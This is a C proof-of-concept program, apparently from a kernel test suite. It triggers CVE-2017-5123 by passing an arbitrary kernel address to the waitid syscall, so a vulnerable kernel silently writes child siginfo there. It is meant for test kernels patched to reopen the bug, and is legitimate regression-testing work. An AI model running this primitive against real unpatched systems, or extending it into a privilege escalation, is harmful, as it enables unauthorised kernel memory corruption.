// SPDX-License-Identifier: GPL-2.0
/*
 * waitid_poc: unprivileged proof of concept of CVE-2017-5123, for test
 * kernels that carry kernel/inject/0001-TEST-ONLY-exit-reopen-CVE-2017-5123-
 * in-waitid.patch.
 *
 *   waitid_poc [--as-nobody] ADDRESS|self
 *
 * Forks a child that exits with status 42 and reaps it with
 *
 *   syscall(SYS_waitid, P_PID, child, (siginfo_t *)ADDRESS, WEXITED, NULL)
 *
 * so that the kernel writes the child's siginfo to ADDRESS: with the bug a
 * mapped kernel address is written silently (ret=0), an unmapped one
 * fails with EFAULT; without it any kernel address fails with EFAULT.
 * "self" passes a siginfo_t of our own, the ordinary valid call.  The
 * program never touches ADDRESS itself and exits 0 whatever the syscall
 * returned; it prints one line:
 *
 *   waitid_poc: pid=P uid=U infop=0x... ret=R errno=E (strerror)
 *
 * and for "self" a second one with the siginfo read back.
 *
 * --as-nobody drops to uid/gid 65534 with no supplementary groups before
 * anything else, for a root caller without su (the test VM's busybox).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include "as_nobody.h"


static int usage(void)
{
	fprintf(stderr, "usage: waitid_poc [--as-nobody] ADDRESS|self\n");
	return 2;
}

int main(int argc, char **argv)
{
	siginfo_t self_info;
	siginfo_t *infop;
	const char *arg;
	unsigned long addr;
	char *end;
	pid_t pid;
	long ret;
	int err;

	if (argc == 3 && !strcmp(argv[1], "--as-nobody")) {
		if (drop_to_nobody("waitid_poc"))
			return 1;
		arg = argv[2];
	} else if (argc == 2) {
		arg = argv[1];
	} else {
		return usage();
	}

	memset(&self_info, 0, sizeof(self_info));
	if (!strcmp(arg, "self")) {
		infop = &self_info;
	} else {
		errno = 0;
		addr = strtoul(arg, &end, 0);
		if (errno || end == arg || *end)
			return usage();
		infop = (siginfo_t *)addr;
	}

	fflush(stdout);
	pid = fork();
	if (pid < 0) {
		fprintf(stderr, "waitid_poc: fork: %s\n", strerror(errno));
		return 1;
	}
	if (pid == 0)
		_exit(42);

	/* The libc wrapper is bypassed: the pointer goes to the kernel as is. */
	errno = 0;
	ret = syscall(SYS_waitid, P_PID, (long)pid, infop, (long)WEXITED, NULL);
	err = errno;
	printf("waitid_poc: pid=%d uid=%d infop=%p ret=%ld errno=%d (%s)\n",
	       (int)getpid(), (int)getuid(), (void *)infop, ret, err,
	       strerror(err));
	if (infop == &self_info)
		printf("waitid_poc: si_signo=%d si_code=%d si_pid=%d si_status=%d (child %d)\n",
		       self_info.si_signo, self_info.si_code,
		       (int)self_info.si_pid, self_info.si_status, (int)pid);
	/* The kernel reaps the child before it writes; make sure of it. */
	if (ret != 0)
		waitpid(pid, NULL, 0);
	return 0;
}
